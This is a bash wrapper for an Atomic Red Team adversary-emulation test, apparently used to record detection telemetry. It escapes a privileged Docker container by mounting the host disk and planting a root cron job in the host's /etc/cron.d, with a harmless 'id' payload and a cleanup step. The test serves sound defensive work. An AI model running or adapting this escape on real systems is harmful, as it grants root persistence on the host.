#!/usr/bin/env bash
# Atomic Red Team T1611-2: Mount host filesystem to escape privileged Docker container
# atomic GUID 6c499943-b098-4bc6-8d38-0956fc182984; technique T1611
# record.sh runs `case.sh run DIR` under the agent (recorded), then `case.sh cleanup DIR`.
W="${2:?usage: $0 run|cleanup DIR}"
cd "$W" || exit 1
run() {
    if [ ! -d /mnt/T1611.002 ]; then mkdir /mnt/T1611.002 ; mount /dev/dm-0 /mnt/T1611.002 2>/dev/null; fi
    echo -n "* * * * * root /bin/bash -c 'id'" > /mnt/T1611.002/etc/cron.d/T1611_002 2>/dev/null
}
cleanup() {
    umount /mnt/T1611.002 2>/dev/null; rmdir /mnt/T1611.002 2>/dev/null
}
"$1"
